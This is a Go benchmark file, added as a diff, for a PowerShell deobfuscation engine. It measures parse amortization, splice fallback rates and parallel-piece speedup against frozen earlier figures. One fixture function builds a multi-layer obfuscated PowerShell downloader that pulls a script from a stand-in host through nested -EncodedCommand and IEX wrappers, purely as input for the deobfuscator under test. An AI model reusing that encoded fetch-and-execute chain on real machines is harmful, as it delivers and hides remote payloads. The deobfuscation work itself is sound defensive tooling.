@@ -1,0 +1,305 @@
+package main
+
+// The -pieces mode measures the batched-splice + parallel-piece
+// recovery fixpoint and writes BENCH_pr9.json:
+//
+//   - parse_amortization: full psparser.Parse invocations per
+//     default-options run over the fixed 3-layer guard script
+//     (acceptance: <= 8, the same ceiling the psfront guard test
+//     enforces).
+//   - splice: splices applied vs full-reparse fallbacks across the
+//     deterministic 24-sample corpus (acceptance: fallback rate < 0.2)
+//     plus the pieces the worker pool evaluated off the walk
+//     goroutine.
+//   - single_core / multi_core: the engine's ns per pass over the
+//     fixpoint-heavy pieces workload against the frozen PR 8 numbers,
+//     at GOMAXPROCS=1 and at 4 simulated cores with PieceWorkers=4
+//     (acceptance: multi-core speedup >= 1.2).
+
+import (
+	"encoding/base64"
+	"fmt"
+	"runtime"
+	"strings"
+	"time"
+
+	invokedeob "github.com/invoke-deobfuscation/invokedeob"
+	"github.com/invoke-deobfuscation/invokedeob/internal/psparser"
+)
+
+type parseAmortizationMetrics struct {
+	ParsesPerRun int64 `json:"parses_per_run"`
+	Budget       int64 `json:"budget"`
+	// PR8 and PreRefactor are the measured counts of the tip-of-PR-8
+	// and the seed engine on the same script, kept for the
+	// amortization narrative (55 -> 16 -> 8).
+	PR8         int64 `json:"pr8_parses_per_run"`
+	PreRefactor int64 `json:"pre_refactor_parses_per_run"`
+}
+
+type spliceMetrics struct {
+	CorpusSize      int     `json:"corpus_size"`
+	SplicesApplied  int     `json:"splices_applied"`
+	SpliceFallbacks int     `json:"splice_fallbacks"`
+	FallbackRate    float64 `json:"fallback_rate"`
+	PiecesParallel  int     `json:"pieces_parallel"`
+	PiecesRecovered int     `json:"pieces_recovered"`
+}
+
+type workloadMetrics struct {
+	Docs int `json:"docs"`
+	// PiecesParallel counts evaluations run on the worker pool off the
+	// walk goroutine with PieceWorkers=4; recovery totals and splice
+	// decisions are identical at any worker count.
+	PiecesParallel  int `json:"pieces_parallel"`
+	PiecesRecovered int `json:"pieces_recovered"`
+	SplicesApplied  int `json:"splices_applied"`
+	SpliceFallbacks int `json:"splice_fallbacks"`
+}
+
+type coreComparison struct {
+	Cores        int `json:"cores"`
+	PieceWorkers int `json:"piece_workers"`
+	// DefaultNsPerOp is the measured best-of-N ns for one pass of the
+	// pieces workload; BaselineNsPerOp is the frozen PR 8 figure for
+	// the identical pass on the same machine class.
+	DefaultNsPerOp  int64 `json:"default_ns_per_op"`
+	BaselineNsPerOp int64 `json:"baseline_ns_per_op"`
+	// Speedup is baseline ns divided by measured ns: how much batched
+	// splicing, restricted bindings and the piece pool buy over the
+	// PR 8 sequential full-reparse fixpoint.
+	Speedup float64 `json:"speedup"`
+}
+
+type piecesReport struct {
+	Generated         string                   `json:"generated"`
+	GoVersion         string                   `json:"go_version"`
+	GOOS              string                   `json:"goos"`
+	GOARCH            string                   `json:"goarch"`
+	NumCPU            int                      `json:"num_cpu"`
+	BaselineCommit    string                   `json:"baseline_commit"`
+	ParseAmortization parseAmortizationMetrics `json:"parse_amortization"`
+	Splice            spliceMetrics            `json:"splice"`
+	Workload          workloadMetrics          `json:"pieces_workload"`
+	SingleCore        coreComparison           `json:"single_core"`
+	MultiCore         coreComparison           `json:"multi_core"`
+}
+
+// pr8PiecesBaseline freezes the tip-of-PR-8 numbers (commit 9ad87a1,
+// "Shard the parse/eval caches with request coalescing and warm-restart
+// snapshots") for one pass of the pieces workload, measured with the
+// same warm-up + best-of-pass loop timePiecesWorkload runs, on the same
+// class of machine. PR 8 has no piece pool, so both figures are its
+// sequential engine; the multi-core figure is slower than single-core
+// because simulating extra cores on a small builder adds GC and
+// runtime-lock churn that the sequential fixpoint cannot absorb.
+var pr8PiecesBaseline = struct {
+	commit       string
+	singleCoreNs int64
+	multiCoreNs  int64
+}{
+	commit:       "9ad87a1",
+	singleCoreNs: 69672730,
+	multiCoreNs:  97150158,
+}
+
+// piecesGuardScript mirrors the psfront parse-count guard fixture: a
+// downloader wrapped in powershell -EncodedCommand, wrapped in a
+// string-concat IEX, wrapped in another -EncodedCommand.
+func piecesGuardScript() string {
+	enc := func(s string) string {
+		buf := make([]byte, 0, len(s)*2)
+		for _, r := range s {
+			if r > 0xFFFF {
+				r = '?'
+			}
+			buf = append(buf, byte(r), byte(r>>8))
+		}
+		return base64.StdEncoding.EncodeToString(buf)
+	}
+	inner := "$u = 'http://layer.test/payload.ps1'\n" +
+		"(New-Object Net.WebClient).DownloadString($u)\n"
+	layer2 := "powershell -EncodedCommand " + enc(inner)
+	layer1 := "I`eX ('" + strings.ReplaceAll(layer2, "'", "''") + "')"
+	return "powershell -enc " + enc(layer1) + "\n"
+}
+
+// piecesWorkload builds the fixpoint-heavy measurement scripts: four
+// documents of 400 literal pad assignments (so splicing a recovered
+// piece is much cheaper than reparsing the document) plus 12
+// independent concat pieces each, the shape the batched-splice and
+// parallel-piece machinery is built for. Deterministic, no network, no
+// obfuscation randomness.
+func piecesWorkload() []string {
+	const (
+		docs   = 4
+		pads   = 400
+		pieces = 12
+	)
+	letters := "abcdefghijklmnop"
+	lit := func(seed, i, n int) string {
+		var s strings.Builder
+		for k := 0; k < n; k++ {
+			s.WriteByte(letters[(seed+i*7+k)%len(letters)])
+		}
+		return s.String()
+	}
+	out := make([]string, docs)
+	for seed := 0; seed < docs; seed++ {
+		var b strings.Builder
+		for i := 0; i < pads; i++ {
+			fmt.Fprintf(&b, "$pad%d = '%s'\n", i, lit(seed, i, 120))
+		}
+		for i := 0; i < pieces; i++ {
+			fmt.Fprintf(&b, "$v%d = '%s' + '%s' + '%s'\n", i,
+				lit(seed, i, 6), lit(seed, i+1, 5), lit(seed, i+2, 7))
+		}
+		// Command-argument concats are captured as deferred piece jobs
+		// (assignment RHS pieces are traced inline), so this block is
+		// what the worker pool actually evaluates in rounds.
+		for i := 0; i < pieces; i++ {
+			fmt.Fprintf(&b, "Write-Output ('%s' + '%s')\n",
+				lit(seed, i+3, 6), lit(seed, i+4, 5))
+		}
+		out[seed] = b.String()
+	}
+	return out
+}
+
+func measurePieces(benchtime time.Duration) (*piecesReport, error) {
+	rep := &piecesReport{
+		Generated:      time.Now().UTC().Format(time.RFC3339),
+		GoVersion:      runtime.Version(),
+		GOOS:           runtime.GOOS,
+		GOARCH:         runtime.GOARCH,
+		NumCPU:         runtime.NumCPU(),
+		BaselineCommit: pr8PiecesBaseline.commit,
+	}
+
+	// Parse amortization on the 3-layer guard script: warm-up run, then
+	// one measured run.
+	guard := piecesGuardScript()
+	if _, err := invokedeob.Deobfuscate(guard, nil); err != nil {
+		return nil, fmt.Errorf("guard warm-up: %w", err)
+	}
+	before := psparser.ParseCalls()
+	if _, err := invokedeob.Deobfuscate(guard, nil); err != nil {
+		return nil, fmt.Errorf("guard run: %w", err)
+	}
+	rep.ParseAmortization = parseAmortizationMetrics{
+		ParsesPerRun: psparser.ParseCalls() - before,
+		Budget:       8,
+		PR8:          16,
+		PreRefactor:  55,
+	}
+
+	// Splice vs fallback across the deterministic corpus, with the
+	// piece-pool counters. PieceWorkers is pinned to 4 so the sweep
+	// exercises the pool even on single-CPU builders (where the
+	// GOMAXPROCS default would resolve to one worker); outputs and
+	// splice decisions are worker-count-independent.
+	samples := invokedeob.GenerateCorpus(20220627, 24)
+	sm := spliceMetrics{CorpusSize: len(samples)}
+	for _, s := range samples {
+		res, err := invokedeob.Deobfuscate(s.Source, &invokedeob.Options{PieceWorkers: 4})
+		if err != nil {
+			return nil, fmt.Errorf("corpus %s: %w", s.ID, err)
+		}
+		sm.SplicesApplied += res.Stats.SplicesApplied
+		sm.SpliceFallbacks += res.Stats.SpliceFallbacks
+		sm.PiecesParallel += res.Stats.PiecesParallel
+		sm.PiecesRecovered += res.Stats.PiecesRecovered
+	}
+	if total := sm.SplicesApplied + sm.SpliceFallbacks; total > 0 {
+		sm.FallbackRate = float64(sm.SpliceFallbacks) / float64(total)
+	}
+	rep.Splice = sm
+
+	// Current engine vs the frozen PR 8 figures on the pieces workload,
+	// at 1 and at >=4 simulated cores (same GOMAXPROCS simulation the
+	// -contended mode uses, so small builders still exercise the pool).
+	multi := runtime.NumCPU()
+	if multi < minSimulatedCores {
+		multi = minSimulatedCores
+	}
+	workload := piecesWorkload()
+	wm := workloadMetrics{Docs: len(workload)}
+	for _, src := range workload {
+		res, err := invokedeob.Deobfuscate(src, &invokedeob.Options{Lang: "powershell", PieceWorkers: 4})
+		if err != nil {
+			return nil, fmt.Errorf("pieces workload stats: %w", err)
+		}
+		wm.PiecesParallel += res.Stats.PiecesParallel
+		wm.PiecesRecovered += res.Stats.PiecesRecovered
+		wm.SplicesApplied += res.Stats.SplicesApplied
+		wm.SpliceFallbacks += res.Stats.SpliceFallbacks
+	}
+	rep.Workload = wm
+	single, err := timePiecesWorkload(benchtime, workload, 1, 1)
+	if err != nil {
+		return nil, err
+	}
+	rep.SingleCore = coreComparison{
+		Cores:           1,
+		PieceWorkers:    1,
+		DefaultNsPerOp:  single,
+		BaselineNsPerOp: pr8PiecesBaseline.singleCoreNs,
+		Speedup:         float64(pr8PiecesBaseline.singleCoreNs) / float64(single),
+	}
+	parallel, err := timePiecesWorkload(benchtime, workload, multi, 4)
+	if err != nil {
+		return nil, err
+	}
+	rep.MultiCore = coreComparison{
+		Cores:           multi,
+		PieceWorkers:    4,
+		DefaultNsPerOp:  parallel,
+		BaselineNsPerOp: pr8PiecesBaseline.multiCoreNs,
+		Speedup:         float64(pr8PiecesBaseline.multiCoreNs) / float64(parallel),
+	}
+	return rep, nil
+}
+
+// timePiecesWorkload measures one pass of the workload (every script
+// once) at a pinned GOMAXPROCS and piece-worker count: a warm-up pass,
+// then best-of-N timed passes with N scaled to the benchtime budget.
+// Best-of matches how the frozen PR 8 constants were taken and is the
+// stable statistic on noisy shared builders.
+func timePiecesWorkload(benchtime time.Duration, workload []string, cores, workers int) (int64, error) {
+	prev := runtime.GOMAXPROCS(cores)
+	defer runtime.GOMAXPROCS(prev)
+
+	// The language is pinned so auto-detection (a constant that is
+	// identical in the PR 8 engine) stays out of the measurement.
+	opts := &invokedeob.Options{Lang: "powershell", PieceWorkers: workers}
+	pass := func() (time.Duration, error) {
+		start := time.Now()
+		for _, src := range workload {
+			if _, err := invokedeob.Deobfuscate(src, opts); err != nil {
+				return 0, err
+			}
+		}
+		return time.Since(start), nil
+	}
+	warm, err := pass()
+	if err != nil {
+		return 0, fmt.Errorf("pieces workload warm-up: %w", err)
+	}
+	reps := int(benchtime / (warm + 1))
+	if reps < 5 {
+		reps = 5
+	} else if reps > 40 {
+		reps = 40
+	}
+	best := warm
+	for i := 0; i < reps; i++ {
+		el, err := pass()
+		if err != nil {
+			return 0, fmt.Errorf("pieces workload pass: %w", err)
+		}
+		if el < best {
+			best = el
+		}
+	}
+	return best.Nanoseconds(), nil
+}
